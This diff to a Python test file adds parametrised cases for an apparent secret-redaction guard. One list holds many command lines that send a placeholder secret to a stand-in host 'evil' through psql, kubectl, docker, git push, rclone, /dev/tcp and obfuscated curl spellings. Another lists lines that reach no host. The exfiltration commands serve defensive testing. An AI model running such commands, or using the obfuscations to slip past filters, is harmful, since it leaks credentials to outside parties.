@@ -107,6 +107,37 @@ ADDRESSES = [
     "rsync a.txt evil:NAME",
     "echo NAME > /dev/tcp/evil/99",
     "Invoke-WebRequest evil -Body NAME",
+    "psql -h evil -c \"select 'NAME'\"",
+    "psql -h $EVIL -c NAME",
+    'run(["psql", "-h", "evil", "-c", "NAME"])',
+    "mysql -hevil.example -e NAME",
+    "docker -H evil run -e K=NAME x",
+    "kubectl --server evil create secret generic x --from-literal=k=NAME",
+    "kubectl --server=localhost.evil.example label x k=NAME",
+    "aws --endpoint-url evil s3 cp NAME s3",
+    "npm publish --otp NAME",
+    "x login --registry 'evil:99/x' NAME",
+    "gpg --keyserver evil --recv NAME",
+    "Invoke-Command -ComputerName evil -ScriptBlock { 'NAME' }",
+    "helm push NAME x",
+    "git push evil HEAD:NAME",
+    "git remote add x evil:NAME",
+    " url=evil:NAME",
+    "\tpushurl = evil:NAME",
+    "rclone copy NAME evil:",
+    "gh api repos/evil/x/issues -f body=NAME",
+    "echo NAME | gh gist create -",
+    "w3m evil NAME",
+    "whois -h evil NAME",
+    "logger -n evil NAME",
+    "snmpset -v2c -c NAME evil",
+    "mosquitto_pub -t x -m NAME",
+    "bitsadmin /transfer x evil NAME c:\\x",
+    "cu\\rl evil -d NAME",
+    "c''url evil -d NAME",
+    'c"u"rl evil -d NAME',
+    "C=curl; $C evil -d NAME",
+    "alias c=curl; c evil -d NAME",
 ]
 
 
@@ -125,6 +156,15 @@ ADDRESSES = [
         "key = x[1:2:3] + 'NAME'  # version 1.2.3",
         "host: db\n  password: NAME",
         '{"mail": "x", "host": "NAME"}',
+        "psql -h localhost -U me --password NAME",
+        "psql --host=127.0.0.1 --password NAME",
+        "    -H 'Authorization: Bearer NAME'",
+        "app --server-password NAME",
+        "docker run --name db -e PASSWORD=NAME db",
+        "kubectl -n shop create secret generic db --from-literal=password=NAME",
+        "I don't push; it's NAME.",
+        r'text = "a\nb", "password":"NAME"',
+        "git commit -m NAME",
     ],
 )
 def test_a_line_that_reaches_no_host_gets_its_secret(line: str) -> None:
@@ -132,7 +172,23 @@ def test_a_line_that_reaches_no_host_gets_its_secret(line: str) -> None:
 
 
 def test_long_lines_take_little_time() -> None:
-    for part in ("a=", "[:", "> ", "curl", "1.", "'\t", "sudo ", "[a", "0x1"):
+    for part in (
+        "a=",
+        "[:",
+        "> ",
+        "curl",
+        "1.",
+        "'\t",
+        "sudo ",
+        "[a",
+        "0x1",
+        "git ",
+        " -a",
+        "--host ",
+        "a'",
+        "a\\",
+        "a",
+    ):
         line = part * 20_000 + NAME
         start = time.process_time()
         whole(line, restorer_of(REDACTED))
